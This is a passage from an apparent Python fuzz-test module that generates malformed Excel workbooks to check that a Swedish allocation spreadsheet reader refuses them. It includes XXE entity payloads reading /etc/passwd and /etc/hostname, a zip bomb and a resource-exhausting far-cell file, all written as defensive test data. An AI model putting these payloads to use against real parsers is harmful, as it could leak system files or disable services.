            "message": "otillåten XML",
        },
        lambda: _patch(
            to_xlsx(base("small")),
            "xl/sharedStrings.xml",
            lambda x: with_doctype(x, '<!DOCTYPE x [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>', "&xxe;"),
        ),
    ),
    (
        {
            "file": "rejected-xxe-workbook-part.xlsx",
            "covers": "an external entity in xl/workbook.xml (a sheet name)",
            "expect": "rejected",
            "message": "otillåten XML",
        },
        lambda: _patch(
            to_xlsx(base("small")),
            "xl/workbook.xml",
            lambda x: with_doctype(
                x, '<!DOCTYPE x [<!ENTITY xxe SYSTEM "file:///etc/hostname">]>', ""
            ).replace(b'name="Villkor 1"', b'name="&xxe;"'),
        ),
    ),
    (
        {
            "file": "rejected-zip-bomb.xlsx",
            "covers": "a 2 MB entry of zeros, compressed over 100:1",
            "expect": "rejected",
            "message": "zip-bomb",
        },
        lambda: apply_bytes(to_xlsx(base("small")), ("zip_bomb", "entry")),
    ),
    (
        {
            "file": "rejected-truncated.xlsx",
            "covers": "the sample cut at 60 %",
            "expect": "rejected",
            "message": "skadad",
        },
        lambda: apply_bytes(SAMPLE_2020.read_bytes(), ("truncate", 600)),
    ),
    (
        {
            "file": "rejected-flipped-bytes.xlsx",
            "covers": "three flipped bytes inside compressed data (CRC error)",
            "expect": "rejected",
            "message": "skadad",
        },
        lambda: apply_bytes(to_xlsx(base("small")), ("flip", [(300, 0x55), (310, 0x01), (320, 0xFF)])),
    ),
    (
        {
            "file": "rejected-corrupt-sheet-xml.xlsx",
            "covers": "a worksheet part cut in the middle of its XML",
            "expect": "rejected",
            "message": "skadad",
        },
        lambda: _patch(to_xlsx(base("small")), "xl/worksheets/sheet2.xml", lambda x: x[: len(x) // 2]),
    ),
    (
        {
            "file": "rejected-missing-workbook-part.xlsx",
            "covers": "a zip without xl/workbook.xml",
            "expect": "rejected",
            "message": "ingen Excel-arbetsbok",
        },
        lambda: zip_bytes({k: v for k, v in unzip(to_xlsx(base("small"))).items() if k != "xl/workbook.xml"}),
    ),
    (
        {
            "file": "rejected-uncached-formula.xlsx",
            "covers": "a pot written as a formula no program has calculated",
            "expect": "rejected",
            "message": "Villkor 1!B25: formeln har inget beräknat värde – öppna arbetsboken i Excel",
        },
        lambda: _small(lambda b: put(_sheet(b, "Villkor 1"), 24, 1, Formula("50+50"))),
    ),
    (
        {
            "file": "rejected-error-cell.xlsx",
            "covers": "#DIV/0! where a person count belongs",
            "expect": "rejected",
            "message": "Befolkning!B8: cellen innehåller felvärdet #DIV/0!",
        },
        lambda: _small(lambda b: put(_sheet(b, "Befolkning"), 7, 1, ErrorCell("#DIV/0!"))),
    ),
    (
        {
            "file": "rejected-merged-header.xlsx",
            "covers": "'Län' and 'Personer' merged into one header cell",
            "expect": "rejected",
            "message": "rubrikraden med cellerna 'Län' och 'Personer' saknas",
        },
        lambda: _small(lambda b: _sheet(b, "Befolkning").merges.append("A3:B3")),
    ),
    (
        {
            "file": "rejected-befolkning-deleted.xlsx",
            "covers": "no Befolkning sheet",
            "expect": "rejected",
            "message": "bladet Befolkning saknas",
        },
        lambda: _small(lambda b: b.pop(0)),
    ),
    (
        {
            "file": "rejected-dotted-number.xlsx",
            "covers": "a pot '39.000' is refused rather than guessed",
            "expect": "rejected",
            "message": "'39.000' är inget tal",
        },
        lambda: _small(lambda b: put(_sheet(b, "Villkor 3"), 24, 1, "39.000")),
    ),
    (
        {
            "file": "rejected-duplicated-lan-row.xlsx",
            "covers": "a län row duplicated in Befolkning",
            "expect": "rejected",
            "message": "förekommer redan på rad",
        },
        lambda: _ops("small", ("duplicate_row", 0, 5)),
    ),
    (
        {
            "file": "rejected-swapped-header-and-data.xlsx",
            "covers": "the header row swapped below the data",
            "expect": "rejected",
            "message": "Befolkning",
        },
        lambda: _ops("small", ("swap_rows", 0, 2, 10)),
    ),
    (
        {
            "file": "bug-sheet-name-too-long.xlsx",
            "covers": "a villkor sheet name of 32 characters (Excel allows 31)",
            "expect": "rejected",
            "message": "längre än 31 tecken",
            "found": "oväntat fel (InvalidWorksheetName) from xlsxwriter; the reader should refuse the name",
            "fixed": "8841aad",
        },
        lambda: _small(
            lambda b: setattr(_sheet(b, "Villkor 1"), "title", "Villkor 1 – ledning och styrning")
        ),
    ),
    (
        {
            "file": "bug-sheet-name-apostrophe.xlsx",
            "covers": "a villkor sheet named 'Villkor 1' with apostrophes (Excel refuses it)",
            "expect": "rejected",
            "message": "apostrof",
            "found": "oväntat fel (InvalidWorksheetName) from xlsxwriter; the reader should refuse the name",
            "fixed": "8841aad",
        },
        lambda: _small(lambda b: setattr(_sheet(b, "Villkor 1"), "title", "'Villkor 1'")),
    ),
    (
        {
            "file": "bug-sheet-name-with-slash.xlsx",
            "covers": "a villkor sheet named 'Villkor 1/2' (Excel cannot save '/' in a sheet name)",
            "expect": "rejected",
            "message": "Villkor 1/2: bladnamnet innehåller /",
            "bug": "refused as 'filen är skadad och kunde inte läsas (ValueError)': openpyxl's error",
        },
        lambda: _small(lambda b: setattr(_sheet(b, "Villkor 1"), "title", "Villkor 1/2")),
    ),
    (
        {
            "file": "bug-sheet-names-differ-in-case.xlsx",
            "covers": "villkor sheets 'Villkor 1' and 'VILLKOR 1' (one name to Excel)",
            "expect": "rejected",
            "message": "samma namn för Excel",
            "found": "converted, the second labelled 'VILLKOR 11': openpyxl renames case-duplicates on load",
            "fixed": "8841aad",
        },
        lambda: _small(_case_duplicate),
    ),
    (
        {
            "file": "bug-sheet-name-empty.xlsx",
            "covers": "a villkor sheet with an empty name (Excel cannot save one)",
            "expect": "rejected",
            "message": "saknar namn",
            "found": "converted with the villkor labelled 'Sheet': openpyxl names it so on load",
            "fixed": "8841aad",
        },
        lambda: _small(lambda b: setattr(_sheet(b, "Villkor 1"), "title", "")),
    ),
    (
        {
            "file": "bug-villkor-sheet-named-befolkning.xlsx",
            "covers": "a villkor sheet 'BEFOLKNING' before the real 'Befolkning'",
            "expect": "rejected",
            "message": "samma namn för Excel",
            "found": "refused for the wrong reason: openpyxl renames the real one 'Befolkning1' on load",
            "fixed": "8841aad",
        },
        lambda: _small(_villkor_named_befolkning),
    ),
    (
        {
            "file": "bug-persons-too-large.xlsx",
            "covers": "10^20 persons in a län, no RIKET row",
            "expect": "rejected",
            "message": "Befolkning!B4",
            "found": "oväntat fel (OverflowError: Python int too large to convert to C long) in allocation",
            "fixed": "8841aad",
        },
        lambda: _small(_persons_too_large),
    ),
    (
        {
            "file": "bug-persons-sum-wraps.xlsx",
            "covers": "two län with 2^62 persons, no RIKET row: the int64 sum wraps",
            "expect": "rejected",
            "message": "Befolkning!B4",
            "found": "silently wrong result: negative shares (int64 overflow in allocation.population_frame)",
            "fixed": "8841aad",
        },
        lambda: _small(_persons_wrap),
    ),
    (
        {
            "file": "bug-pot-text-infinite.xlsx",
            "covers": "a pot written as the text 1 followed by 400 zeros (float('inf'))",
            "expect": "rejected",
            "message": "Villkor 3!B25",
            "found": "oväntat fel (TypeError: NAN/INF not supported), xlsxwriter: parse_number returned inf",
            "fixed": "8841aad",
        },
        lambda: _small(lambda b: put(_sheet(b, "Villkor 3"), 24, 1, "1" + "0" * 400)),
    ),
    (
        {
            "file": "bug-pots-overflow.xlsx",
            "covers": "two pots of 10^308 Mkr: their total is infinite",
            "expect": "rejected",
            "message": "Villkor 3!B25",
            "found": "result written with inf as a cached value: a corrupt workbook Excel will not open",
            "fixed": "8841aad",
        },
        lambda: _small(_huge_pots),
    ),
    (
        {
            "file": "bug-reference-date-year-1.xlsx",
            "covers": "'Befolkning 1/11 0001': accepted, and the result's created date is '1-11-01T…'",
            "expect": "rejected",
            "message": "referensdatum",
            "found": "converted; the result is not a valid workbook (openpyxl cannot read its properties)",
            "fixed": "8841aad",
        },
        lambda: _ops("small", ("date_form", 6)),
    ),
    (
        {
            "file": "bug-dotted-amount-becomes-note.xlsx",
            "covers": "'SKR | 39.000': the amount is not a number, so the row is silently kept as a note",
            "expect": "rejected",
            "message": "Villkor 3!B27: '39.000' är inget tal",
            "found": "converted without SKR's 39 Mkr (a note 'SKR 39.000'); README: a dot is refused",
            "fixed": "8841aad",
        },
        lambda: _small(lambda b: put(_sheet(b, "Villkor 3"), 26, 1, "39.000")),
    ),
    (
        {
            "file": "bug-far-cell-hangs.xlsx",
            "covers": "one text cell at XFD1048576 (below RIKET: a note); a 4 KB file, 17 billion cells",
            "expect": "ok",
            "isolate": True,
            "timeout": 20,
            "found": "hangs (and eats memory): reader._Sheet walks every cell up to max_row × max_column",
            "fixed": "8841aad",
        },
        _far_cell_bytes,
    ),
]


def write_corpus() -> None:
    CORPUS.mkdir(exist_ok=True)
    for old in CORPUS.glob("*.xlsx"):
        old.unlink()
    for case, builder in CORPUS_CASES:
        (CORPUS / case["file"]).write_bytes(builder())
    manifest = {"cases": [case for case, _ in CORPUS_CASES]}
    MANIFEST.write_text(json.dumps(manifest, ensure_ascii=False, indent=2) + "\n", encoding="utf-8")


if __name__ == "__main__":
    if sys.argv[1:] != ["--write-corpus"]:
        raise SystemExit("usage: python -m tests.test_fuzz --write-corpus")
    write_corpus()
    print(f"wrote {len(CORPUS_CASES)} workbooks and {MANIFEST}")
